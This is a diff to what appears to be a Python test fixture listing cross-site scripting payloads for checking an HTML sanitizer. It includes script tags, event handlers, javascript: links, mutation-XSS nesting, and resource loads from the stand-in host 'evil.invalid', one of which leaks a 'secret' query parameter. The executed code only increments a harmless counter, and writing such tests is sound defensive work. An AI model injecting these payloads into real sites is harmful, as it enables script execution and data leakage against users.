@@ -6,12 +6,13 @@ from typing import Final
 
 HOST: Final = "evil.invalid"
 MARK: Final = "window.__pwned=(window.__pwned||0)+1"  # what every script would do
+FROM_WITHIN: Final = MARK.replace("window", "parent")  # what one in a frame would do
 
 PAYLOADS: Final = (
     f"<script>{MARK}</script>",
     f"<img src=x onerror=\"{MARK}\">",
     f"<svg onload=\"{MARK}\"><circle r=9></svg>",
-    f"<iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe>",
+    f"<iframe srcdoc=\"<script>{FROM_WITHIN}</script>\"></iframe>",
     f"<iframe src=\"https://{HOST}/frame\"></iframe>",
     f"![alt](https://{HOST}/pixel.png?secret=1)",
     f"<img src=\"https://{HOST}/pixel.png\">",
@@ -61,7 +62,7 @@ MORE: Final = (
     f"<svg><animate onbegin=\"{MARK}\" attributeName=x dur=1s></svg>",
     f"<svg><a xlink:href=\"javascript:{MARK}\"><text y=20>x</text></a></svg>",
     f"<svg><use href=\"https://{HOST}/u.svg#x\"/><image href=\"https://{HOST}/im.png\"/></svg>",
-    f"<svg><foreignObject><iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe></foreignObject></svg>",
+    f"<svg><foreignObject><iframe srcdoc=\"<script>{FROM_WITHIN}</script>\"></iframe></foreignObject></svg>",
     f"<svg><style>@import 'https://{HOST}/svg.css'</style></svg>",
     f"<math href=\"javascript:{MARK}\">x</math><maction actiontype=statusline xlink:href=\"javascript:{MARK}\">x</maction>",
     f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
